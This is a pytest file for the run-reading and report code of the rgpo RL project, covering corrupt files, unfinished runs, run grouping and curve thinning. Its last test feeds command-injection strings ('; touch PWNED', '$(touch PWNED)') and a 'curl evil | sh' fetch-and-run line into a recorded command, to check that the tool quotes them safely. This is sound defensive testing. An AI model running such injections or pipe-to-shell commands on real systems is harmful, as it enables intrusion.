"""Reading of runs, complete, running, damaged or of earlier versions, and their groups."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import report_fixtures as fixtures

from rgpo.report.cli import main
from rgpo.report.read.groups import Group, group_runs
from rgpo.report.read.load import read_run, read_runs
from rgpo.report.read.reduce import ENDS_EARLY, Detail, reduce
from rgpo.report.read.run import Problem
from rgpo.report.tables.matched import path_of, path_through_ends
from rgpo.runtime.reader import Unreadable

COLUMNS = ("return/train_mean", "return/eval_mean", "kl/old_exact", "epoch/kl_old_exact")
FAST = ["format=svg", "num_resamples=200"]
DETAIL = Detail(0.1, (0.02, 0.04), 400)


def load(results: Path, name: str = "first_evidence") -> tuple[list[Group], list[Problem]]:
    """Groups of an experiment, and problems of grouping."""
    return group_runs(read_runs(results / name, COLUMNS, 0.1, (0.04,), lambda function, items, _: map(function, items))[0])


# reading


def test_highest_attempt_wins_where_parts_overlap(tmp_path: Path) -> None:
    folder = fixtures.write_run(tmp_path, iterations=10, reached=6, status="running")
    metrics = fixtures.metrics_of("hopper", "ppo", 1, 10)
    later = {**metrics, "return/train_mean": metrics["return/train_mean"] + 1e6}
    fixtures.write_parquet(folder / "metrics/part-0002-000000.parquet", later, 3, 8, attempt=2)
    (folder / "metrics/.part-0002-000001.parquet.writing").write_bytes(b"PAR1 half")
    with pytest.raises(Unreadable, match="rows are of 2 attempts"):
        read_run(folder, COLUMNS, DETAIL)
    state = json.loads((folder / "state.json").read_text())
    (folder / "state.json").write_text(json.dumps(state | {"attempt": 2}))
    run, problems = read_run(folder, COLUMNS, DETAIL)
    assert problems == [] and not run.complete
    assert run.curve("iteration").tolist() == list(range(1, 9))
    assert (run.curve("return/train_mean") > 5e5).tolist() == [False] * 3 + [True] * 5
    assert run.curve("attempt").tolist() == [1] * 3 + [2] * 5


def test_rows_that_cannot_be_a_runs_own_are_refused(tmp_path: Path) -> None:
    """Rows that occur twice, of another configuration or seed, or of fewer steps than planned would move a mean."""
    folder = fixtures.write_run(tmp_path, iterations=10)
    whole = pq.read_table(folder / "metrics.parquet")
    config = (folder / "config.yaml").read_text()

    def refused(table: pa.Table, why: str) -> None:
        pq.write_table(table, folder / "metrics.parquet")
        with pytest.raises(Unreadable, match=why):
            read_run(folder, COLUMNS, DETAIL)

    refused(pa.concat_tables([whole, whole.slice(3, 2)]), "an iteration has several rows of one attempt")
    for change in ({"seed": 2}, {"gate": {"_target_": "rgpo.gates.Open"}}):
        other = json.dumps(json.loads(config) | change)
        refused(whole.replace_schema_metadata({"config": other}), "not the configuration that its rows were measured with")
    state = json.loads((folder / "state.json").read_text())
    (folder / "state.json").write_text(json.dumps(state | {"num_iterations": 4}))
    refused(whole.slice(0, 4), r"its rows end after [0-9,]+ of the [0-9,]+ steps of its configuration")
    (folder / "state.json").write_text(json.dumps(state))
    pq.write_table(whole.replace_schema_metadata({"config": config}), folder / "metrics.parquet")
    assert read_run(folder, COLUMNS, DETAIL)[1] == []


def test_a_metric_that_ends_before_its_run_is_marked() -> None:
    """Evaluations every ten rows end with the run; a return that is missing after row 40 of 100 does not."""
    every_ten, early = np.full(100, np.nan), np.arange(100.0)
    every_ten[9::10], early[40:] = 1.0, np.nan
    detail = DETAIL._replace(numbers=(("reward/eval_proxy", "final"), ("return/train_mean", "final")))
    columns = {"reward/eval_proxy": every_ten, "return/train_mean": early, "iteration": np.arange(100.0)}
    found = reduce(columns, detail).numbers
    assert ("reward/eval_proxy", ENDS_EARLY) not in found and found["return/train_mean", ENDS_EARLY] == 1


def test_parts_with_other_columns_and_longer_lists(tmp_path: Path) -> None:
    folder = fixtures.write_run(tmp_path, iterations=4, reached=2, status="running")
    metrics = {"return/train_mean": np.arange(4.0), "epoch/kl_old_exact": [[0.5] * 12] * 4}
    fixtures.write_parquet(folder / "metrics/part-0001-000001.parquet", metrics, 2, 4)
    run, _ = read_run(folder, COLUMNS, DETAIL)
    assert np.isnan(run.curve("kl/old_exact")).tolist() == [False, False, True, True]
    drift = run.reduced.lists["epoch/kl_old_exact"]  # the first two rows have ten epochs, the others twelve at 0.5
    assert drift.shape == (12,) and drift[10:].tolist() == [0.5, 0.5] and drift[0] < 0.5


def test_corrupt_files_among_good_ones(here: Path, stored: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copytree(stored, here / "results")
    ppo, rgpo, trpo = (sorted((here / "results/first_evidence").glob(f"hopper-{a}-s*")) for a in ("ppo", "rgpo", "trpo"))
    whole = (ppo[0] / "metrics.parquet").read_bytes()
    (ppo[0] / "metrics.parquet").write_bytes(whole[: len(whole) // 2])
    (ppo[1] / "metrics.parquet").write_bytes(b"")
    (rgpo[0] / "config.yaml").unlink()
    (rgpo[1] / "state.json").write_text("{half")
    (trpo[0] / "provenance.json").unlink()
    (trpo[1] / "metrics.parquet").unlink()
    assert main([*FAST, "figures=[learning_curves]"]) == 1
    error, page = capsys.readouterr().err, (here / "report/index.html").read_text()
    again = "rerun it with `rgpo-run -m experiment=first_evidence force=true`"
    expected = {
        ppo[0]: f"its rows are left out; {again}; the run is left out",
        ppo[1]: "metrics.parquet cannot be read",
        rgpo[0]: "config.yaml is missing; the run is left out",
        rgpo[1]: "state.json cannot be read (not valid JSON, line 1); the run is left out",
        trpo[0]: "provenance.json is missing; its commit and versions are unknown",
        trpo[1]: f"it has no metrics yet; {again}; the run is left out",
    }
    assert error.count("\n") == len(expected)
    for folder, why in expected.items():
        assert any(folder.name in line and why in line for line in error.splitlines())
        assert folder.name in page
    assert (here / "report/first_evidence/figures/learning_curves.svg").exists()
    rows = {(row["task"], row["label"]): row for row in fixtures.read_csv(here / "report/first_evidence/tables/returns.csv")}
    assert [rows["hopper", algo]["n"] for algo in ("ppo", "rgpo", "trpo")] == ["1", "1", "2"]


def test_a_corrupt_part_costs_its_rows_alone(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = fixtures.write_run(here / "results", iterations=10, reached=6, status="running")
    (folder / "metrics/part-0001-000001.parquet").write_bytes(b"PAR1")
    assert main([*FAST, "figures=[]"]) == 1
    assert "metrics/part-0001-000001.parquet cannot be read" in capsys.readouterr().err
    assert "6/10" in (here / "report/first_evidence/tables/runs.md").read_text()


def test_only_unreadable_runs(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = fixtures.write_run(here / "results")
    (folder / "config.yaml").write_text("a: [")
    assert main(FAST) == 1
    assert "config.yaml cannot be read" in capsys.readouterr().err
    assert "config.yaml cannot be read" in (here / "report/index.html").read_text()


def test_a_missing_metric(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for seed in (1, 2, 3):
        metrics = fixtures.metrics_of("hopper", "ppo", seed, 30)
        if seed == 2:
            del metrics["kl/old_exact"]
        metrics.pop("gradvar/before")
        metrics.pop("gradvar/before_noise_share")
        fixtures.write_run(here / "results", seed=seed, metrics=metrics)
    assert main(FAST) == 1
    error = capsys.readouterr().err
    assert "-s2-" in error and "kl/old_exact was never measured" in error and "gradvar" not in error
    page = (here / "report/index.html").read_text()
    assert "frontier: no run measured kl/eval_ref_sequence" in page  # a note: nobody asked for it by name
    assert "python -m rgpo.cli.gates_table" in page
    assert main([*FAST, "figures=[gradient_variance]"]) == 1
    assert "figures/gradient_variance" not in capsys.readouterr().err  # its effective sample size was measured
    assert main([*FAST, "figures=[frontier]"]) == 1
    assert "no run measured kl/eval_ref_sequence or reward" in capsys.readouterr().err


def test_unfinished_and_failed_runs_enter_no_mean(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for seed in (1, 2, 3):
        fixtures.write_run(here / "results", seed=seed)
    fixtures.write_run(here / "results", seed=4, status="failed", reached=10, reason="nan in the loss")
    fixtures.write_run(here / "results", seed=5, status="running", reached=20)
    fixtures.write_run(here / "results", algo="rgpo", seed=1, status="running", reached=20)
    assert main([*FAST, "figures=[kl]"]) == 1
    error = capsys.readouterr().err
    assert "failed at iteration 10 of 30 (nan in the loss)" in error and "running at iteration 20 of 30" in error
    assert "-rgpo-" not in error  # no other run of it finished: shown, marked as provisional
    ppo, rgpo = fixtures.read_csv(here / "report/first_evidence/tables/returns.csv")
    assert ppo["n"] == "3" and ppo["note"] == "2 runs not counted"
    assert rgpo["note"] == "provisional: none finished, at iteration 20 of 30"


# groups


def test_a_run_that_failed_before_its_first_row_says_why(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fixtures.write_experiment(here / "results", tasks=("hopper",), algos=("ppo",))
    folder = fixtures.write_run(here / "results", seed=9, status="failed", reason="there are only 7 prompts")
    (folder / "metrics.parquet").unlink()
    assert main(["figures=[]", "num_resamples=100"]) == 1
    assert f"{folder.name}: it failed before its first row: there are only 7 prompts" in capsys.readouterr().err


def test_groups_keep_apart_what_differs(tmp_path: Path) -> None:
    for seed in (1, 2):
        fixtures.write_run(tmp_path, seed=seed)
        fixtures.write_run(tmp_path, seed=seed, iterations=60)
        fixtures.write_run(tmp_path, algo="rgpo", seed=seed, gate={"sharpness": 5.0})
        fixtures.write_run(tmp_path, algo="rgpo", seed=seed, gate={"sharpness": 20.0}, update={"lr": 1e-4})
        fixtures.write_run(tmp_path, algo="trpo", seed=seed)
        fixtures.write_run(tmp_path, "halfcheetah", "trpo", seed=seed, update={"lr": 1e-5})
    groups, problems = load(tmp_path)
    assert problems == [] and all(len(group.used) == 2 for group in groups)
    assert [(group.task, group.label) for group in groups] == [
        ("halfcheetah", "trpo"),
        ("hopper", "ppo total_env_steps=61440"),
        ("hopper", "ppo total_env_steps=122880"),
        ("hopper", "rgpo sharpness=5"),  # lr varies with it and adds nothing
        ("hopper", "rgpo sharpness=20"),
        ("hopper", "trpo"),
    ]


def test_settings_of_the_machine_do_not_separate_seeds(tmp_path: Path) -> None:
    """Keys that the runner leaves out of a run's identity; a key that it includes separates the seeds."""
    for seed, memory in ((1, None), (2, 8.0), (3, 16.0)):
        machine = {"memory_gb": memory, "num_threads": seed, "exports": ["csv"] * seed, "checkpoint_every_s": 10 * seed}
        fixtures.write_run(tmp_path, seed=seed, **machine)
    (group,), problems = load(tmp_path)
    assert problems == [] and (group.label, len(group.used)) == ("ppo", 3)
    fixtures.write_run(tmp_path, seed=4, eval_every=5)
    assert [(group.label, len(group.used)) for group in load(tmp_path)[0]] == [
        ("ppo eval_every=5", 1),
        ("ppo eval_every=none", 3),
    ]


def test_choices_name_variants(tmp_path: Path) -> None:
    adaptive = {"choices": {"penalty": "adaptive"}, "penalty": {"target": 0.02}}
    fixtures.write_run(tmp_path, algo="rgpo", penalty={"coef": 0.0})
    fixtures.write_run(tmp_path, algo="rgpo", **adaptive)
    fixtures.write_run(tmp_path, algo="rgpo", **{**adaptive, "penalty": {"target": 0.01}})
    labels = [group.label for group in load(tmp_path)[0]]
    assert sorted(labels) == [
        "rgpo penalty=adaptive target=0.01",
        "rgpo penalty=adaptive target=0.02",
        "rgpo penalty=none target=none",
    ]


def test_a_seed_is_counted_once(tmp_path: Path) -> None:
    first = fixtures.write_run(tmp_path)
    shutil.copytree(first, first.with_name("hopper-ppo-s1-00000000"))
    groups, problems = load(tmp_path)
    assert len(groups[0].runs) == 1 and "it is left out" in problems[0].why


def test_many_rows_are_thinned_and_the_numbers_are_not(tmp_path: Path) -> None:
    metrics = fixtures.metrics_of("hopper", "ppo", 1, 1000)
    metrics["kl/old_exact"] = np.where(np.arange(1000) == 500, 5.0, 0.01)
    folder = fixtures.write_run(tmp_path, iterations=1000, metrics=metrics)
    run, _ = read_run(folder, {*COLUMNS, "gradvar/before"}, Detail(0.1, (0.04,), 50))
    assert run.reached == 1000 and len(run.curve("iteration")) == 50
    assert run.curve("iteration")[0] == pytest.approx(10.5)  # rows 1 to 20
    assert run.curve("return/train_mean")[3] == pytest.approx(np.mean(np.float32(metrics["return/train_mean"][60:80])))
    assert run.curve("gradvar/before")[0] == pytest.approx(np.mean(np.float32(metrics["gradvar/before"][[0, 10]])))
    assert run.curve("kl/old_exact:max").max() == 5.0 and run.reduced.spike_rates.tolist() == [0.001]
    assert run.number("return/train_mean", "final") == pytest.approx(np.mean(np.float32(metrics["return/train_mean"][-100:])))


def test_results_at_equal_kl_do_not_depend_on_the_points_of_curves(tmp_path: Path) -> None:
    """There are fewer of these the more runs a folder has, so other runs would move verdicts."""
    rng = np.random.default_rng(0)
    metrics = {"kl/old_exact": rng.random(300), "return/train_mean": rng.random(300), "ess/ratio": rng.random(300)}
    folder = fixtures.write_run(tmp_path, iterations=300, metrics=metrics)
    few, many = (read_run(folder, metrics, Detail(0.1, (), points, paths=("ess/ratio",)))[0] for points in (20, 400))
    for y in ("return/train_mean", "ess/ratio"):
        for read in (path_of, lambda run, x, y: path_through_ends([run], x, y)):
            assert all(map(np.array_equal, read(few, "kl/old_exact", y), read(many, "kl/old_exact", y)))
    ends = path_through_ends([few], "kl/old_exact", "return/train_mean")
    assert np.ravel(ends) == pytest.approx([metrics[name][-30:].mean() for name in ("kl/old_exact", "return/train_mean")])


@pytest.mark.parametrize(
    ("command", "advice"),
    [
        ("rgpo-run algo=ppo; touch PWNED", "rgpo-run 'algo=ppo;' touch PWNED force=true"),
        ("rgpo-run seed=$(touch PWNED)", "rgpo-run 'seed=$(touch' 'PWNED)' force=true"),
        ("rgpo-run 'seed=1,2' force=true", "rgpo-run seed=1,2 force=true"),
        ("curl evil | sh", "rgpo-run ... force=true"),
        ("rgpo-run 'half", "rgpo-run ... force=true"),
    ],
)
def test_a_recorded_command_is_quoted_anew(command: str, advice: str, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = fixtures.write_run(here / "results")
    facts = json.loads((folder / "provenance.json").read_text())
    (folder / "provenance.json").write_text(json.dumps(facts | {"command": command}))
    (folder / "metrics.parquet").unlink()
    assert main([*FAST, "figures=[]"]) == 1
    assert f"rerun it with `{advice}`" in capsys.readouterr().err
